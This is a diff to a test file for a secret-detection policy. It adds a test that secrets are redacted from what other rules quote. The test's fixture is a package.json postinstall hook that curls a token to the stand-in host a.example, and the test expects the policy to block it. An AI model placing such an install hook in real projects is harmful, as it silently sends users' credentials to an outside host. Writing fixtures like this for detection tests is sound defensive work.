@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
+import { evaluatePolicy } from '../evaluate.ts';
 import { makeSecrets, WRAPPINGS } from '../secrets/synthetic-secrets.ts';
-import { added, caughtBy, deleted, judgeBy, modified } from '../testing.ts';
+import { added, caughtBy, deleted, inputOf, judgeBy, modified } from '../testing.ts';
 
 const [token = ''] = makeSecrets(1, 1).map(({ secret }) => secret);
 const messages = (changes: Parameters<typeof judgeBy>[1]): string[] => judgeBy('secrets', changes).violations.map(({ message }) => message);
@@ -31,6 +32,12 @@ describe('secrets', () => {
   it('does not print a secret that is a file’s name', () => {
     const result = judgeBy('secrets', [added(`src/${token}.ts`, { text: 'x' })]);
     expect(result.violations).toHaveLength(1);
+    expect(JSON.stringify(result)).not.toContain(token);
+  });
+  it('takes secrets out of what other rules quote', () => {
+    const text = `{\n  "scripts": { "postinstall": "curl -H 'x: ${token}' a.example" }\n}\n`;
+    const result = evaluatePolicy(inputOf([modified('package.json', { text: '{}\n' }, { text })]));
+    expect(result.block).toBeGreaterThan(0);
     expect(JSON.stringify(result)).not.toContain(token);
   });
   it('obeys no comment in what it judges', () => {
